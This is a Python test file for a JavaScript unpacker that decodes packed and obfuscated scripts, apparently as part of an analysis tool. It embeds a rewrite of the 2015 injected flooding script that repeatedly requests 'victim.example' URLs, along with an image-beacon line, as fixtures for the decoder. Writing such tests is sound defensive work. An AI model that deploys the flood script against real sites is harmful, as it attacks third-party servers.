#!/usr/bin/env python3
"""What our unpacker makes of packed scripts, against the packer and against a script engine.

    test_packer.py SCRIPT_TOOL

Random scripts are packed here (packer.py) and must come back byte by byte.  Where node is
installed, it runs the same packed scripts, which are our own and harmless, with eval() replaced
by a function that keeps its argument, and must have been given the same text.
"""
import base64
import json
import random
import shutil
import subprocess
import sys
import unittest
import urllib.parse

from packer import DIGITS, pack

TOOL = None
WORDS = """var function return if else for while new this document window setTimeout setInterval Image src write
url count length random Math Date getTime script http https www victim example a b c d e x y z i j k 0 1 2 10 62 100 2000
2E3 _ $ __ a1 b2 0a 00 01 Z9 zz ajax open GET send null true false undefined""".split()
MARKS = ["(", ")", "{", "}", ";", ",", ".", "=", "+", " ", "\n", "'", '"', "\\", "/", "|"[:0], "[", "]", "?", "&", ":", "<", ">", "\u00e9", "\u4e2d", "\t", "-", "*", "%"]

# In the shape of what was injected in March 2015, as published; other hosts, and the time in the query.
CANNON = r"""document.write("<script src='http://cdn.example/jquery.min.js'>\x3c/script>");
!window.jQuery && document.write("<script src='http://code.example/jquery.js'>\x3c/script>");
startime = (new Date).getTime();
var count = 0;
function unixtime() {
    var a = new Date;
    return Date.UTC(a.getFullYear(), a.getMonth(), a.getDay(), a.getHours(), a.getMinutes(), a.getSeconds()) / 1E3
}
url_array = ["https://victim.example/first?_=", "https://victim.example/second?_="];
NUM = url_array.length;
function r_send2() { var a = unixtime() % NUM; get(url_array[a] + unixtime()) }
function get(a) {
    var b;
    $.ajax({ url: a, dataType: "script", timeout: 1E4, cache: !0,
        beforeSend: function() { requestTime = (new Date).getTime() },
        complete: function() {
            responseTime = (new Date).getTime();
            b = Math.floor(responseTime - requestTime);
            3E5 > responseTime - startime && (r_send(b), count += 1)
        } })
}
function r_send(a) { setTimeout("r_send2()", a) }
setTimeout("r_send2()", 2E3);
"""


def many(mode, texts):
    data = b"".join(b"%d\n" % len(t) + t for t in texts)
    out = subprocess.run([TOOL, mode], input=data, capture_output=True, check=True).stdout
    got = []
    while out:
        size, _, out = out.partition(b"\n")
        got.append(out[:int(size)])
        out = out[int(size):]
    return got


def some_script(r, marks):
    size = r.choice([1, 5, 30, 200, 1500])
    own = [r.choice("abcdefgXYZ_") + "".join(r.choices(DIGITS, k=r.randrange(1, 9))) for _ in range(r.randrange(1, 2 + size))]
    return "".join(r.choice(r.choice([WORDS, own])) + "".join(r.choices(marks, k=r.randrange(1, 4))) for _ in range(size))


class Packed(unittest.TestCase):
    def packed(self, n, base, form, seed):
        r = random.Random(seed)
        marks = MARKS if base < 95 else [m for m in MARKS if m < "\x7f"]
        scripts = [some_script(r, marks) for _ in range(n)]
        return scripts, [pack(s, base, form) for s in scripts]

    def check(self, base, form):
        scripts, packed = self.packed(250, base, form, base)
        for want, got, p in zip(scripts, many("packer", [p.encode() for p in packed]), packed):
            self.assertEqual(got.decode(), want, p[:2000])

    def test_each_base_comes_back_as_it_was(self):
        for base in (10, 36, 62, 95):
            for form in "dr":
                with self.subTest(base=base, form=form):
                    self.check(base, form)

    def test_high_digits_in_latin_1_come_back_as_well(self):
        scripts, packed = self.packed(100, 95, "d", 7)
        for want, got in zip(scripts, many("packer", [p.encode("latin-1") for p in packed])):
            self.assertEqual(got.decode("latin-1"), want)

    def test_a_script_packed_again_and_again_gives_its_url(self):
        for depth in range(1, 13):
            s = 'new Image().src="http://victim.example/a?b=1"'
            for i in range(depth):
                s = pack(s, (62, 36, 10)[i % 3], "dr"[i % 2])
            (said,) = many("read", [s.encode()])
            self.assertEqual(said.count(b"layer packer"), depth)
            self.assertIn(b"loaded %d http://victim.example:80/a?b=1\n" % depth, said)

    def test_the_script_of_2015_in_its_shape_and_packed(self):
        for script in (CANNON, pack(CANNON), pack(CANNON, 62, "r"), pack(pack(CANNON, 95), 62)):
            (said,) = many("read", [script.encode()])
            lines = [" ".join(w for i, w in enumerate(x.split()) if i != 1) for x in said.decode().splitlines() if "://" in x]
            self.assertEqual(lines, ["loaded http://cdn.example:80/jquery.min.js?", "loaded http://code.example:80/jquery.js?",
                                     "repeated https://victim.example:443/first?_=", "repeated https://victim.example:443/second?_="])
            self.assertIn(b"repeats 1 2000\nbusts 1\nscript 1\nredirects 0\ncut -\n", said)

    @unittest.skipIf(shutil.which("node") is None, "no node to compare with")
    def test_node_is_given_the_same(self):
        program = """
        const cases = JSON.parse(require('fs').readFileSync(0, 'utf8'));
        const got = cases.map(c => { let kept; new Function('eval', c)(x => { kept = x; }); return kept; });
        process.stdout.write(JSON.stringify(got));
        """
        for base in (10, 36, 62, 95):
            for form in "dr":
                _, packed = self.packed(150, base, form, base + 1000)
                run = subprocess.run(["node", "-e", program], input=json.dumps(packed), capture_output=True, text=True, check=True)
                for want, got in zip(json.loads(run.stdout), many("packer", [p.encode() for p in packed])):
                    self.assertEqual(got.decode(), want)


def evaluated(expressions):
    """What node makes of each."""
    program = """
    const cases = JSON.parse(require('fs').readFileSync(0, 'utf8'));
    process.stdout.write(JSON.stringify(cases.map(c => String(new Function('return ' + c)()))));
    """
    run = subprocess.run(["node", "-e", program], input=json.dumps(expressions), capture_output=True, text=True, check=True)
    return json.loads(run.stdout)


def plain(literal):
    """A literal as our passes write them: no escapes but of quote, backslash and line ends."""
    assert literal[0] == '"' and literal[-1] == '"', literal
    return json.loads("".join("\\u%04x" % ord(c) if c < " " else c for c in literal))


@unittest.skipIf(shutil.which("node") is None, "no node to compare with")
class Literals(unittest.TestCase):
    """Expressions over literals, made at random: ours is what node evaluates them to."""

    def text(self):
        return "".join(self.r.choices("ab:/.?=&%'\"\\\n\r\t xyz019\u00e9\u4e2d\U0001f600", k=self.r.randrange(0, 30)))

    def literal(self, text):
        quote = self.r.choice("\"'")
        out = []
        for c in text:
            units = c.encode("utf-16-be").hex()
            ways = ["".join("\\u" + units[i:i + 4] for i in range(0, len(units), 4))]
            if ord(c) < 256:
                ways.append("\\x%02x" % ord(c))
            if c not in "\n\r\\" + quote:
                ways += [c] * 4
                if not c.isalnum() and c < "\x7f":
                    ways.append("\\" + c)
            out.append(self.r.choice(ways))
        return quote + "".join(out) + quote

    def agree(self, mode, expressions, steps=1):
        got = [e.encode() for e in expressions]
        for m in mode.split():
            got = many(m, got)
        for e, mine, want in zip(expressions, got, evaluated(expressions)):
            self.assertEqual(plain(mine.decode()), want, (e, mine))

    def setUp(self):
        self.r = random.Random(self.id())

    def hidden(self):
        return self.literal("\u00e9" + self.text() + "h")

    def test_escapes(self):
        self.agree("escapes", ["\"\\x68" + self.hidden()[1:-1].replace('"', "'").replace("\\'", "'") + '"' for _ in range(300)])

    def test_percent(self):
        cases = []
        for _ in range(300):
            t = self.text()
            cases.append("decodeURIComponent(%s)" % self.literal(urllib.parse.quote(t)))
            units = t.encode("utf-16-be")
            coded = "".join("%%u%04x" % int.from_bytes(units[i:i + 2], "big") for i in range(0, len(units), 2))
            cases.append("unescape(%s)" % self.literal(coded + self.r.choice(["", "%", "%4", "%zz", "%u12"])))
        self.agree("percent", cases)

    def test_character_codes(self):
        def code(c):
            n = ord(c)
            k = self.r.randrange(0, n + 1)
            return self.r.choice([str(n), hex(n), "0x%X" % n, f"{k}+{n - k}", f"{n + 7}-7", f"{n ^ 5}^5"])
        cases = []
        for _ in range(300):
            units = (self.text() + "x").encode("utf-16-be")
            chars = [chr(int.from_bytes(units[i:i + 2], "big")) for i in range(0, len(units), 2)]
            cases.append("String.fromCharCode(%s)" % ", ".join(map(code, chars)))
        self.agree("codes", cases)

    def test_base64(self):
        def coded():
            t = "".join(self.r.choices("abc:/.?=\n\"\\'", k=self.r.randrange(1, 30)))
            return "atob(%s)" % self.literal(base64.b64encode(t.encode()).decode().rstrip("=" if self.r.random() < 0.5 else " "))
        self.agree("base64", [coded() for _ in range(300)])

    def test_joined(self):
        cases = []
        for _ in range(300):
            parts = [self.literal(self.text()) for _ in range(self.r.randrange(2, 6))]
            cases.append(" + ".join(parts) + self.r.choice(["", "+8080", '+ 7 +"x"']))
            cases.append("[%s].join(%s)" % (",".join(parts), self.r.choice(["", "''", "'-'"])))
            cases.append("%s.concat(%s)" % (parts[0], ", ".join(parts[1:])))
        self.agree("joined", cases)

    def test_turned_and_replaced(self):
        ascii_only = [t for t in (self.text() for _ in range(400)) if t.isascii() and t]
        self.agree("turned", ["%s.split('').reverse().join('')" % self.literal(t) for t in ascii_only])
        cases = []
        for t in ascii_only:
            c = self.r.choice(t)
            cases.append("%s.split(%s).join(%s)" % (self.literal(t), self.literal(c), self.literal("<>")))
            cases.append("%s.replace(%s,%s)" % (self.literal(t), self.literal(c), self.literal("")))
            if c.isalnum():
                cases.append("%s.replace(/%s/g,'_')" % (self.literal(t), c))
        self.agree("replaced", cases)


if __name__ == "__main__":
    TOOL = sys.argv.pop(1)
    unittest.main()
